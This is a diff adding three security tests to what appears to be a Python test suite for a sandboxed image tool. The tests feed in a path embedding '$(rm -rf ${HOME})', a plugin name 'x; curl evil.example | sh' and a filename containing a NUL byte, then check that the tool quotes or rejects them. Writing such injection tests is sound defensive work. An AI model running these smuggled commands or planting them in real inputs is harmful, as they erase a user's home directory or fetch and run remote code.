@@ -270,3 +270,22 @@ def swept(arena: Arena) -> Outcome:
 def exported(arena: Arena) -> Outcome:
     picture = recipe_picture(arena.folder / "holiday.png", reads("image.load", arena.photo))
     return arena.run("export", picture, "-o", "bundle")
+
+
+@attack("a picture whose path is a command to the shell, for whom copies the option that is offered", "--allow-read '")
+def path_for_the_shell(arena: Arena) -> Outcome:
+    outcome = run_picture(arena, reads("image.load", "x --allow-read / $(rm -rf ${HOME}).png"))
+    assert f"--allow-read '{arena.folder}/x --allow-read / $(rm -rf ${{HOME}}).png'" in outcome.err
+    return outcome
+
+
+@attack("a picture that requires a plugin whose name is a command to the shell", "no name of one")
+def plugin_for_the_shell(arena: Arena) -> Outcome:
+    outcome = run_picture(arena, PLAIN.replace(HEAD, HEAD + 'requires: {"x; curl evil.example | sh": ">=1"}\n'))
+    assert "pip install" not in outcome.err
+    return outcome
+
+
+@attack("a picture that carries a file whose name has a NUL", "no name of a file")
+def name_with_nul(arena: Arena) -> Outcome:
+    return run_picture(arena, {"a\0b.yaml": PLAIN})
